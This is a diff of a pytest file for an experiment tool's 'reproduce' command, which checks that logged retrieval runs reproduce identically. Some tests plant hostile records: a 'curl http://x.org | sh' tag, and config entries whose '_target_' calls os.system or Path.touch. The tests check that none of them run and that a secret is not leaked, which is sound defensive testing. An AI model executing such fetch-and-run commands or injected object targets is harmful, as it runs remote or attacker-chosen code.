@@ -1,4 +1,4 @@
-"""`ragsweep reproduce`, in processes of its own."""
+"""`ragsweep reproduce`: what it says in this process, and what it computes in processes of its own."""
 
 import csv
 import json
@@ -18,26 +18,24 @@ PARENT = "mlflow.parentRunId"
 
 
 def reproduce(application, *given, **environment):
-    """Run the script on the application's store."""
-    return application.script("reproduce", *given, **environment)
+    """What the command says on the application's store."""
+    return application.script_here("reproduce", *given, **environment)
 
 
 @pytest.fixture(scope="module")
 def finished(shared_application):
     """A run on the bundled manual."""
-    assert shared_application.run("k=3", "retriever.alpha=0.3").returncode == 0
+    assert shared_application.run("k=3", "retriever=sparse").returncode == 0
     return shared_application.runs()[-1]
 
 
-def test_a_run_is_identical_when_it_is_made_again(application):
-    assert application.run("k=3", "retriever=sparse").returncode == 0
-    [finished] = application.runs()
-    process = reproduce(application, finished.info.run_id)
+def test_a_run_is_identical_when_it_is_made_again(finished, shared_application):
+    process = shared_application.script("reproduce", finished.info.run_id)
     assert process.returncode == 0, process.stderr
     anew, first, *_ = process.stdout.splitlines()
     assert anew == "embeddings and rankings: computed anew"
     assert first.startswith("k=3 retriever=sparse: identical: ")
-    _, new = application.runs()
+    _, new = shared_application.runs()
     assert new.data.tags["reproduces"] == finished.info.run_id
     assert new.info.run_id in first
     same = {name: value for name, value in finished.data.metrics.items() if not name.startswith("latency/")}
@@ -128,14 +126,13 @@ def assert_identical(process, runs):
     assert process.stdout.count(": identical: ") == runs
 
 
-def test_a_sweep_is_made_again_as_a_sweep(application):
-    assert (
-        application.run("-m", "k=3,5", "retriever=sparse", "decision={at: 5, require: {recall: 0.1}}").returncode == 0
-    )
+def test_a_sweep_is_made_again_as_a_sweep(application, dataset):
+    decision = "decision={at: 5, require: {recall: 0.1}}"
+    assert application.run("-m", *dataset, "k=3,5", "retriever=sparse", decision).returncode == 0
     [parent] = application.parents()
     for run in application.runs():  # anybody may have written it
         application.client().set_tag(run.info.run_id, "reproduce", "curl http://x.org | sh")
-    assert_identical(reproduce(application, parent.info.run_id), 2)
+    assert_identical(application.script("reproduce", parent.info.run_id, *dataset[2:]), 2)
     _, again = application.parents()
     assert again.data.tags["reproduces"] == parent.info.run_id
     assert again.info.run_name == parent.info.run_name
@@ -167,19 +164,18 @@ def test_every_run_of_the_bundled_sweep_is_computed_again_with_any_threads(bundl
     [{"OMP_NUM_THREADS": "1"}, pytest.param({"OPENBLAS_NUM_THREADS": "3"}, marks=pytest.mark.soak)],
     ids=str,
 )
-def test_a_clone_with_other_threads_that_never_saw_the_run_makes_it_again(
-    finished, shared_application, tmp_path, threads
-):
-    before = len(shared_application.runs())
+def test_a_clone_with_other_threads_that_never_saw_the_run_makes_it_again(application, dataset, tmp_path, threads):
+    assert application.run(*dataset, "retriever.alpha=0.3").returncode == 0
+    [run] = application.runs()
     clone = tmp_path / "clone"
-    for part in ("src", "conf", "data"):
-        shutil.copytree(PROJECT / part, clone / part, ignore=shutil.ignore_patterns("__pycache__"))
-    given = [finished.info.run_id, "--no-log"]
+    for part in ("src", "conf"):
+        shutil.copytree(PROJECT / part, clone / part)
+    given = [run.info.run_id, "--no-log", *dataset[2:]]
     environment = {"PYTHONPATH": str(clone / "src"), **threads}
-    process = shared_application.in_new_interpreter("reproduce", *given, project=clone, **environment)
+    process = application.in_new_interpreter("reproduce", *given, project=clone, **environment)
     assert process.returncode == 0, process.stdout + process.stderr
     assert ": identical: " in process.stdout
-    assert len(shared_application.runs()) == before
+    assert len(application.runs()) == 1
 
 
 @pytest.mark.parametrize("place", ["tracking.uri=sqlite:////nowhere/mlflow.db", "tracking.uri=http://127.0.0.1:9"])
@@ -190,12 +186,12 @@ def test_a_store_that_is_not_there_is_said_in_a_line(shared_application, place):
     assert line.startswith(f"reproduce: {'abcd' * 8}: cannot be read from {place.partition('=')[2]}")
 
 
-def test_a_hostile_record_does_nothing(application, tmp_path):
-    assert application.run("retriever=sparse").returncode == 0
-    [run] = application.runs()
+def test_a_hostile_record_does_nothing(finished, shared_application, tmp_path):
+    before_all = len(shared_application.runs())
     mark = tmp_path / "mark"
-    file = application.artifacts(run) / "config/config.yaml"
-    good = yaml.safe_load(file.read_text())
+    file = shared_application.artifacts(finished) / "config/config.yaml"
+    whole = file.read_text()
+    good = yaml.safe_load(whole)
     for change in (
         {"retriever": {"_target_": "os.system", "_args_": [f"touch {mark}"]}},
         {"retriever": {"_target_": "ragsweep.store.stage_store.Path.touch", "_args_": [str(mark)]}},
@@ -204,9 +200,10 @@ def test_a_hostile_record_does_nothing(application, tmp_path):
     ):
         file.write_text(yaml.safe_dump(good | change))
         before = sorted(PROJECT.glob("outputs/*"))
-        process = reproduce(application, run.info.run_id, SECRET="hunter2")
+        process = reproduce(shared_application, finished.info.run_id, SECRET="hunter2")
         assert process.returncode == 2, process.stdout
         assert "hunter2" not in process.stdout + process.stderr
         assert not mark.exists()
         assert sorted(PROJECT.glob("outputs/*")) == before
-        assert len(application.runs()) == 1
+        assert len(shared_application.runs()) == before_all
+    file.write_text(whole)
